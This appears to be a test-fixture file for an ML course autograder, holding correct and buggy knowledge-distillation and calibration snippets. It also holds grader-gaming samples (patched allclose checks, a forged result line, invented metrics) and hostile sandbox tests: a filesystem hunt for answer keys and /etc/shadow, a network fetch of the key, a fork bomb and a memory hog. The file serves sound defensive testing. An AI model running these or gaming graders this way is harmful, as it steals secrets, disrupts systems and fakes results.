"""Code a student might write: the correct versions and the classic mistakes.

The example generator appends these snippets to the solution cell that defines the
function (so the later definition wins), and the unit tests run them through the
function host and the checks.
"""

KD_TEMPLATE = '''
import torch
import torch.nn.functional as F

def {name}(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    s = student_logits.float()
    t = teacher_logits{detach}.float()
    soft = F.kl_div({first}, {target}, reduction="{reduction}"){t2}
    hard = F.cross_entropy(s, labels)
    return {weights}
'''

_KD_OK = dict(detach=".detach()", first="F.log_softmax(s / T_d, dim=-1)", target="F.softmax(t / T_d, dim=-1)",
              reduction="batchmean", t2=" * T_d ** 2", weights="alpha * soft + (1 - alpha) * hard")

KD_MUTATIONS = {
    "correct": {},
    "bug_softmax_input": {"first": "F.softmax(s / T_d, dim=-1)"},
    "bug_missing_T2": {"t2": ""},
    "bug_alpha_swapped": {"weights": "(1 - alpha) * soft + alpha * hard"},
    "kl_reversed": {"first": "F.log_softmax(t / T_d, dim=-1)", "target": "F.softmax(s / T_d, dim=-1)"},
    "reduction_mean": {"reduction": "mean"},
    "teacher_not_detached": {"detach": ""},
    # the right formula, but log(softmax) underflows to -inf for large logits
    "log_of_softmax": {"first": "torch.log(F.softmax(s / T_d, dim=-1))"},
}


def kd_source(mutation: str = "correct", name: str = "kd_loss_fn") -> str:
    return KD_TEMPLATE.format(name=name, **{**_KD_OK, **KD_MUTATIONS[mutation]})


# Correct alternative formulations: each must earn full marks, fp16 and large logits included.
KD_ALTERNATIVES = {
    "kl_divergence": '''
import torch
import torch.nn.functional as F
from torch.distributions import Categorical, kl_divergence

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    s, t = student_logits.float(), teacher_logits.detach().float()
    kl = kl_divergence(Categorical(logits=t / T_d), Categorical(logits=s / T_d)).mean()
    return alpha * T_d ** 2 * kl + (1 - alpha) * F.cross_entropy(s, labels)
''',
    "log_target": '''
import torch.nn.functional as F

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    s, t = student_logits.float(), teacher_logits.detach().float()
    soft = F.kl_div(F.log_softmax(s / T_d, dim=-1), F.log_softmax(t / T_d, dim=-1), reduction="batchmean",
                    log_target=True)
    return alpha * soft * T_d ** 2 + (1 - alpha) * F.cross_entropy(s, labels)
''',
    "manual_sums": '''
import torch

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    s, t = student_logits.float(), teacher_logits.detach().float()
    log_ps = torch.log_softmax(s / T_d, dim=1)
    log_pt = torch.log_softmax(t / T_d, dim=1)
    kl = (log_pt.exp() * (log_pt - log_ps)).sum(dim=1).mean()
    log_p = torch.log_softmax(s, dim=1)
    ce = -log_p[torch.arange(len(labels)), labels].mean()
    return alpha * (T_d ** 2) * kl + (1 - alpha) * ce
''',
    # No float32 conversion: fp16 inputs are computed in fp16, which the judge allows.
    "input_dtype": '''
import torch.nn.functional as F

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    soft = F.kl_div(F.log_softmax(student_logits / T_d, dim=-1),
                    F.softmax(teacher_logits.detach() / T_d, dim=-1), reduction="batchmean")
    return alpha * T_d ** 2 * soft + (1 - alpha) * F.cross_entropy(student_logits, labels)
''',
}

# Right formula, returned as a Python float: the gradient is lost (one mistake, one part).
KD_RETURNS_FLOAT = KD_TEMPLATE.format(name="kd_loss_fn",
                                      **{**_KD_OK, "weights": "float(alpha * soft + (1 - alpha) * hard)"})

KD_CONSTANT = '''
import torch

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    # the number the sanity check printed, returned whatever the inputs
    return torch.tensor(2.3026, requires_grad=True)
'''

# The bug hunt's fix, made in the copy of the colleague's code the lab cell holds.
COLLEAGUE_COPY = '''
import torch.nn.functional as F

def fixed_kd_loss(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    soft_student = {first}(student_logits / T_d, dim=-1)
    soft_teacher = F.softmax(teacher_logits / T_d, dim=-1)
    kl = F.kl_div({kl_args}, reduction="{reduction}"){t2}
    ce = F.cross_entropy(student_logits, labels)
    return {weights}
'''
_COPY_AS_GIVEN = dict(first="F.softmax", kl_args="soft_student, soft_teacher", reduction="batchmean", t2="",
                      weights="(1 - alpha) * kl + alpha * ce")
COPY_FIXES = {
    "softmax_input": {"first": "F.log_softmax"},
    "missing_T2": {"t2": " * T_d ** 2"},
    "alpha_swapped": {"weights": "alpha * kl + (1 - alpha) * ce"},
    "kl_reversed": {"kl_args": "F.log_softmax(teacher_logits / T_d, dim=-1), soft_student.exp()"},
}


def fixed_copy(*fixes: str) -> str:
    """The colleague's code with the named fixes (and distractor edits) made in place."""
    kw = dict(_COPY_AS_GIVEN)
    for f in fixes:
        kw.update(COPY_FIXES[f])
    return COLLEAGUE_COPY.format(**kw)


FIXED_BY_ALIAS = '''
fixed_kd_loss = kd_loss_fn
'''

KD_COLLEAGUE = '''
from helpers.kd import colleague_kd_loss as kd_loss_fn
'''

KD_CALLS_REFERENCE = '''
import helpers.kd as _course_kd

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    return _course_kd.kd_loss(student_logits, teacher_logits, labels, T_d, alpha)
'''

PATCH_ALLCLOSE = '''
import math, numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.isclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
'''

BOOTSTRAP_PAIRED = '''
import numpy as np

def paired_bootstrap_ci(score_fn, arm_a, arm_b, labels, n_resamples=1000, seed=42):
    rng = np.random.RandomState(seed)
    arm_a, arm_b, labels = np.asarray(arm_a), np.asarray(arm_b), np.asarray(labels)
    n = len(labels)
    deltas = np.empty(n_resamples)
    for r in range(n_resamples):
        idx = rng.randint(0, n, n)
        deltas[r] = score_fn(arm_b[idx], labels[idx]) - score_fn(arm_a[idx], labels[idx])
    lo, med, hi = np.quantile(deltas, [0.025, 0.5, 0.975])
    return {"median": float(med), "ci_low": float(lo), "ci_high": float(hi),
            "excludes_zero": bool(lo > 0 or hi < 0)}
'''

BOOTSTRAP_UNPAIRED = '''
import numpy as np

def paired_bootstrap_ci(score_fn, arm_a, arm_b, labels, n_resamples=1000, seed=42):
    rng = np.random.RandomState(seed)
    arm_a, arm_b, labels = np.asarray(arm_a), np.asarray(arm_b), np.asarray(labels)
    n = len(labels)
    deltas = np.empty(n_resamples)
    for r in range(n_resamples):
        ia, ib = rng.randint(0, n, n), rng.randint(0, n, n)   # a fresh sample per arm: not paired
        deltas[r] = score_fn(arm_b[ib], labels[ib]) - score_fn(arm_a[ia], labels[ia])
    lo, med, hi = np.quantile(deltas, [0.025, 0.5, 0.975])
    return {"median": float(med), "ci_low": float(lo), "ci_high": float(hi),
            "excludes_zero": bool(lo > 0 or hi < 0)}
'''

INFINITE_LOOP = '''
while True:   # a student's stuck cell
    pass
'''

SWALLOW_INTERRUPT = '''
import time
while True:   # swallows the timeout interrupt
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:
        pass
'''

KILL_KERNEL = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

FORGE_LINE = '''
print('@@AUTOGRADER-RESULT@@ {"check": "lab_kd_loss", "nonce": "guess", "flags": [], "data": {}}')
'''

WARN_STDERR = '''
import sys, warnings
warnings.warn("a harmless warning on stderr")
print("a line on stderr", file=sys.stderr)
'''

# The homework's bootstrap with a 90% interval instead of the 95% one asked for.
BOOTSTRAP_90 = BOOTSTRAP_PAIRED.replace("[0.025, 0.5, 0.975]", "[0.05, 0.5, 0.95]")

# Per-tier ECE, right and with [lo, hi) bins (the convention the instructions rule out).
PER_TIER_ECE = '''
import numpy as np

def per_tier_ece(probs, labels, tiers, n_bins=15):
    probs, labels, tiers = np.asarray(probs, dtype=float), np.asarray(labels), np.asarray(tiers)
    edges = np.linspace(0.0, 1.0, n_bins + 1)
    out = {}
    for tier in ("head", "mid", "tail"):
        rows = tiers == tier
        conf, correct = probs[rows].max(axis=1), probs[rows].argmax(axis=1) == labels[rows]
        total = 0.0
        for lo, hi in zip(edges[:-1], edges[1:]):
            in_bin = (conf > lo) & (conf <= hi)
            if in_bin.any():
                total += in_bin.mean() * abs(correct[in_bin].mean() - conf[in_bin].mean())
        out[tier] = float(total)
    return out
'''
PER_TIER_ECE_LO_CLOSED = PER_TIER_ECE.replace("(conf > lo) & (conf <= hi)", "(conf >= lo) & (conf < hi)").replace(
    "for lo, hi in zip(edges[:-1], edges[1:]):", "for lo, hi in zip(edges[:-1], list(edges[1:-1]) + [1.0 + 1e-9]):")

# The coverage table with a strict threshold (confidence > t instead of >= t).
COVERAGE_TABLE = '''
import numpy as np
import pandas as pd

def coverage_table(probs, labels, thresholds=(0.5, 0.6, 0.7, 0.8, 0.9)):
    probs, labels = np.asarray(probs, dtype=float), np.asarray(labels)
    conf, correct = probs.max(axis=1), probs.argmax(axis=1) == labels
    rows = []
    for t in thresholds:
        covered = conf >= t
        n = int(covered.sum())
        rows.append({"threshold": float(t), "coverage": n / len(labels),
                     "accuracy": float(correct[covered].mean()) if n else float("nan"), "n_covered": n})
    return pd.DataFrame(rows, columns=["threshold", "coverage", "accuracy", "n_covered"])
'''
COVERAGE_TABLE_STRICT = COVERAGE_TABLE.replace("covered = conf >= t", "covered = conf > t")

# The lab's given bootstrap, used: right, with the arms swapped, and read wrongly.
BOOTSTRAP_USE = '''
from helpers import bootstrap
f1_ci_table = bootstrap.paired_bootstrap({a}.preds, {b}.preds, labels, tiers, metric="{metric}")
real_lift_tiers = {real}
tail_reading = "{reading}"
'''


def bootstrap_use(a: str = "vanilla", b: str = "distilled", metric: str = "macro_f1",
                  real: str = "{t for t in TIERS if f1_ci_table.loc[t, 'ci_low'] > 0}", reading: str = "R2") -> str:
    """The lab's bootstrap cells with the arms, metric and answers given."""
    return BOOTSTRAP_USE.format(a=a, b=b, metric=metric, real=real, reading=reading)


# Deployment artifacts: numbers invented, or another model's, or a model that breaks the rule, and each
# way of gaming the judge a reviewer found (each must lose its rule's point).
DEPLOY_INVENTED = '''
deployment["coverage"], deployment["accuracy"] = 0.61, 0.93
'''
DEPLOY_DISTILLED_UNDER_B = '''
coverage_df = coverage_tables["distilled"]
_row = coverage_df[coverage_df["threshold"] == 0.7].iloc[0]
deployment.update(model="distilled", coverage=float(_row["coverage"]), accuracy=float(_row["accuracy"]),
                  justification="distilled has the lowest NLL, "
                                f"{calibration_df.loc['distilled', 'nll']:.3f}, on the eval half.",
                  switch_point=round(float(calibration_df.loc["distilled", "ece"]), 3), alternative="vanilla+T")
'''
DEPLOY_OTHER_MODELS_NUMBERS = '''
_row = coverage_tables["distilled"][coverage_tables["distilled"]["threshold"] == 0.7].iloc[0]
# distilled's numbers, shipped as vanilla+T
deployment.update(coverage=float(_row["coverage"]), accuracy=float(_row["accuracy"]))
'''
DEPLOY_SCENARIO_Z = '''
deployment.update(scenario="Z", decision_rule="x")
'''
# A one-decimal number matched some metric of some arm at that precision.
DEPLOY_ONE_DECIMAL_CITATION = '''
deployment["justification"] = "vanilla+T is well calibrated, with an error near 0.0 and accuracy about 0.9 when sure."
'''
# Any number passed as the switch point, any words as the constraint.
DEPLOY_SWITCH_POINT_999 = '''
deployment["switch_point"] = 999
'''
DEPLOY_FREE_TEXT_FLIP = '''
deployment["flip_constraint"] = "the regulator tightening the ECE cap"
'''
# Coverage and accuracy on the whole validation set, not the eval half (close, but not the named numbers).
DEPLOY_WHOLE_VALIDATION = '''
_whole = coverage_table(metrics.softmax(calibration.apply_temperature(vanilla.logits, T_vanilla)), labels)
_row = _whole[_whole["threshold"] == 0.7].iloc[0]
deployment.update(coverage=float(_row["coverage"]), accuracy=float(_row["accuracy"]))
'''

# ---------------------------------------------------------------- hostile submissions the sandbox must contain
# Graded sandboxed (the default), each must gain nothing and hurt nothing but itself.  They stay
# harmless even if graded --unsandboxed by mistake: no traffic leaves the machine (192.0.2.0/24 is
# reserved for documentation), the memory hog's pages are never touched, the fork bomb is bounded.

# Set as the answer to the bug-hunt question: look for the instructor's files everywhere, with every
# name built from pieces (a plain "autograder" in the source is flagged), and copy the key's answer.
FS_HUNT = '''
import json, os, sys
chosen_bugs = set()   # no idea: go and find the answer key instead
_names = {"answer" + "_key.json", "grade" + "book.db", "la" + "b.json", "home" + "work.json",
          "lab" + "_2a_kd_loss.py", "hw" + "_1_diagnose.py", "make_" + "notebooks.py", "week6_" + "lab.ipynb",
          "week6_" + "homework.ipynb", "course" + "_secret"}
_hits = []

def _steal(path):
    try:
        with open(path, errors="replace") as fh:
            text = fh.read()
    except OSError:
        return
    _hits.append(path)
    global chosen_bugs
    if path.endswith("answer" + "_key.json"):
        chosen_bugs = set(json.loads(text)["lab" + "_bug_choices"]["bugs"])
    print(text[:2000])   # into my own feedback

import helpers
_roots = {os.path.dirname(os.path.dirname(os.path.abspath(helpers.__file__))), os.path.dirname(sys.prefix),
          os.path.expanduser("~"), "/root", "/home", "/work", "/srv", "/opt"}
_d = os.getcwd()
for _ in range(8):
    _roots.add(_d)
    _d = os.path.dirname(_d)
_rel = ["auto" + "grader/answer" + "_key.json", "auto" + "grader/expe" + "cted/la" + "b.json",
        "grade" + "book.db", "notebooks/week6_lab/week6_" + "lab.ipynb", "nbgrader_work/grade" + "book.db",
        "nbgrader_work/course" + "_secret", "course" + "_secret"]
for _r in sorted(_roots):
    for _p in _rel:
        if os.path.isfile(os.path.join(_r, _p)):
            _steal(os.path.join(_r, _p))
_mine = os.path.abspath("week6_" + "lab.ipynb")
for _d, _dirs, _files in os.walk("/"):
    _dirs[:] = [x for x in _dirs if os.path.join(_d, x) not in ("/proc", "/sys", "/dev")
                and x not in ("site-packages", "dist-packages")]   # installed packages: public anyway
    for _f in _files:
        _p = os.path.join(_d, _f)
        if _f in _names and _p != _mine:
            _steal(_p)
for _f in (os.path.expanduser("~/.bash_history"), "/root/.bash_history", "/etc/shadow"):
    if os.path.isfile(_f):
        _steal(_f)
print("HUNT FOUND:", json.dumps(sorted(set(_hits))))
'''

# Also the answer to the bug-hunt question: ask a server for it (the end-to-end test runs one on the
# grading machine's loopback at NET_PORT), or anything on the internet.
NET_PORT = 47251
NET_REACH = '''
import json, socket
chosen_bugs = set()
_net = []
for _host, _port in (("127.0.0.1", {NET_PORT}), ("192.0.2.1", 80)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _s:
            _s.sendall(b"GET /key HTTP/1.0\\r\\n\\r\\n")
            _reply = _s.recv(65536).decode(errors="replace")
        chosen_bugs = set(json.loads(_reply.split("\\r\\n\\r\\n", 1)[-1])["bugs"])
        _net.append(f"{_host}:{_port} reached")
    except (OSError, ValueError, KeyError) as _e:
        _net.append(f"{_host}:{_port} {type(_e).__name__}")
print("NET:", json.dumps(_net))
'''.replace("{NET_PORT}", str(NET_PORT))

# Prepended to a function's cell: ask for 16 GiB (calloc: never touched, so harmless without limits).
MEMORY_HOG = '''
_hog = bytearray(16 << 30)
'''

# Prepended to a function's cell: 2**10 processes unless something stops it; the children sleep and
# leave (so it stays bounded even unsandboxed).
FORK_BOMB = '''
import os, time
_root_pid = os.getpid()
for _ in range(10):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != _root_pid:
    time.sleep(30)
    os._exit(0)
'''
